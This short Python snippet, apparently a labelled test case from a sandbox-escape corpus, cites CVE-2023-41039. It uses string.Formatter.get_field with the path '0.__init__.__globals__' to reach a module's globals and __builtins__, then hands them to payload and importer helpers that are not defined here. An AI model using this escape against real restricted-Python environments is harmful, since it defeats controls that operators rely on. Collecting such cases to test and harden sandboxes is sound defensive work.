# kind: capability
# string.Formatter.get_field returns the object a field names, not its text
# (CVE-2023-41039).
import random
import string
g = string.Formatter().get_field("0.__init__.__globals__", (random.Random,), {})[0]
payload(importer(g["__builtins__"]))
